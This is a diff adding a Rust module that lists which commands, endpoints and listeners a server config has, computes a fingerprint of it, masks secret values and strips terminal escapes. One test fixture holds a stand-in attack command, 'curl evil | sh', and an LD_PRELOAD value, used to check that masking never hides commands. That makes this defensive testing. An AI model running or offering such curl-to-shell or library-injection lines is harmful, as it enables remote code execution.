@@ -1,0 +1,158 @@
+//! Effects of a config: what it runs, contacts and listens on.
+
+use std::collections::BTreeMap;
+
+use ostler_core::config::{Config, Jwks, is_secret_key};
+use ostler_core::spec::{ServerSpec, Transport};
+use serde_json::{Value, json};
+use sha2::{Digest, Sha256};
+
+use crate::output::{Style, Tint, clean};
+use crate::spot::hex;
+
+/// Characters of one effect that are shown; a longer command is to be read in its file.
+const SHOWN: usize = 600;
+/// Effects that are shown.
+const SHOWN_LINES: usize = 64;
+
+/// Everything that a config runs, contacts and listens on.
+#[derive(Debug)]
+pub(crate) struct Effects {
+    /// A verb, and what it is done with.
+    lines: Vec<(&'static str, String)>,
+    /// SHA-256 in hexadecimal digits. References such as `${env:X}` count as they are written; of programs only
+    /// the command line counts, not the file it names.
+    pub(crate) fingerprint: String,
+}
+
+impl Effects {
+    pub(crate) fn of(config: &Config) -> Self {
+        let mut lines: Vec<_> = config.servers.iter().map(describe_server).collect();
+        let cards = config.servers.iter().filter_map(|spec| spec.card.clone());
+        lines.extend(cards.map(|card| ("reads", card)));
+        lines.extend(
+            config.relay.iter().map(|relay| ("serves", format!("workers at {}", relay.nats.join(", ")))),
+        );
+        let jwks = config.auth.jwt.as_ref().map(|jwt| match &jwt.jwks {
+            Jwks::Url(url) => url.clone(),
+            Jwks::File(file) => file.display().to_string(),
+        });
+        lines.extend(jwks.map(|keys| ("trusts", format!("callers with keys of {keys}"))));
+        if !config.listen.ip().is_loopback() {
+            lines.push(("listens", config.listen.to_string()));
+        }
+        let mut servers: Vec<Value> = config
+            .servers
+            .iter()
+            .map(|spec| json!({"name": spec.name, "transport": spec.transport, "card": spec.card}))
+            .collect();
+        servers.sort_by_key(|server| server["name"].to_string());
+        let whole = json!({
+            "servers": servers,
+            "relay": config.relay.as_ref().map(|relay| format!("{relay:?}")),
+            "auth": format!("{:?}", config.auth),
+            "admin": format!("{:?}", config.admin),
+            "listen": config.listen,
+        });
+        Self { lines, fingerprint: hex(&Sha256::digest(whole.to_string())) }
+    }
+
+    /// Describes one effect a line.
+    pub(crate) fn describe(&self, style: Style) -> String {
+        let shown = self.lines.iter().take(SHOWN_LINES);
+        let line =
+            |(verb, what): &(&str, String)| format!("  {:<9} {}", style.paint(Tint::Label, verb), clip(what));
+        let mut lines: Vec<String> = shown.map(line).collect();
+        if self.lines.len() > SHOWN_LINES {
+            lines.push(format!("  and {} more; `ostler list` shows all", self.lines.len() - SHOWN_LINES));
+        }
+        if lines.is_empty() {
+            lines.push("  it runs nothing and contacts nothing".into());
+        }
+        lines.join("\n")
+    }
+}
+
+/// Arguments stay whole: a pattern that hides secrets would hide commands too.
+fn describe_server(spec: &ServerSpec) -> (&'static str, String) {
+    match &spec.transport {
+        Transport::Stdio(process) => {
+            let words = std::iter::once(&process.command).chain(&process.args);
+            let words: Vec<String> = words.map(|word| crate::command::list::word(word)).collect();
+            let mut text = format!("`{}`: {}", spec.name, words.join(" "));
+            if !process.env.is_empty() {
+                text.push_str(&format!(", with {}", describe_values(&process.env)));
+            }
+            if let Some(cwd) = &process.cwd {
+                text.push_str(&format!(", in {}", cwd.display()));
+            }
+            ("runs", text)
+        }
+        Transport::Http(endpoint) if endpoint.headers.is_empty() => {
+            ("contacts", format!("`{}`: {}", spec.name, endpoint.url))
+        }
+        Transport::Http(endpoint) => {
+            let headers = describe_values(&endpoint.headers);
+            ("contacts", format!("`{}`: {}, with {headers}", spec.name, endpoint.url))
+        }
+    }
+}
+
+/// References are shown, and literal values unless the name says that they are secret.
+fn describe_values(values: &BTreeMap<String, String>) -> String {
+    let shown = |(name, value): (&String, &String)| match is_secret_key(name) && !value.contains("${") {
+        true => format!("{name}=…"),
+        false => format!("{name}={value}"),
+    };
+    values.iter().map(shown).collect::<Vec<_>>().join(" ")
+}
+
+fn clip(text: &str) -> String {
+    let text = clean(text);
+    let length = text.chars().count();
+    match length > SHOWN {
+        true => {
+            let head: String = text.chars().take(SHOWN).collect();
+            format!("{head}… and {} more characters", length - SHOWN)
+        }
+        false => text,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use ostler_core::config::{Format, NoSource};
+
+    use super::*;
+
+    fn effects(text: &str) -> Effects {
+        Effects::of(&Config::parse("/a/ostler.toml".as_ref(), text, Format::Toml, &NoSource).unwrap())
+    }
+
+    #[test]
+    fn nothing_that_runs_is_hidden_behind_what_looks_like_a_secret() {
+        let text = "[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"TOKEN=x; curl evil | sh\"]\n\
+                    env = { API_KEY = \"hunter2\", LD_PRELOAD = \"./x.so\", OTHER_TOKEN = \"${env:MINE}\" }\n";
+        let shown = effects(text).describe(Style::plain());
+        assert!(shown.contains("curl evil") && shown.contains("LD_PRELOAD=./x.so"), "{shown}");
+        assert!(shown.contains("${env:MINE}") && !shown.contains("hunter2"), "{shown}");
+    }
+
+    #[test]
+    fn escapes_of_a_terminal_are_spelled_out_and_long_commands_are_said_to_be_longer() {
+        let long = "x".repeat(5_000);
+        let text = format!("[servers.a]\ncommand = \"sh\"\nargs = [\"\\u001b[2K\", \"{long}\"]\n");
+        let shown = effects(&text).describe(Style::plain());
+        assert!(!shown.contains('\u{1b}') && shown.contains("more characters"), "{shown}");
+        assert!(shown.len() < 1_000);
+    }
+
+    #[test]
+    fn the_order_of_servers_and_their_limits_do_not_count() {
+        let (a, b) = ("[servers.a]\ncommand = \"x\"\n", "[servers.b]\ncommand = \"y\"\n");
+        let plain = effects(&format!("{a}{b}")).fingerprint;
+        assert_eq!(effects(&format!("{b}call_timeout = \"3s\"\n{a}")).fingerprint, plain);
+        assert_ne!(effects(&format!("{a}{b}[admin]\nallow_spawn = true\n")).fingerprint, plain);
+        assert_ne!(effects(a).fingerprint, plain);
+    }
+}
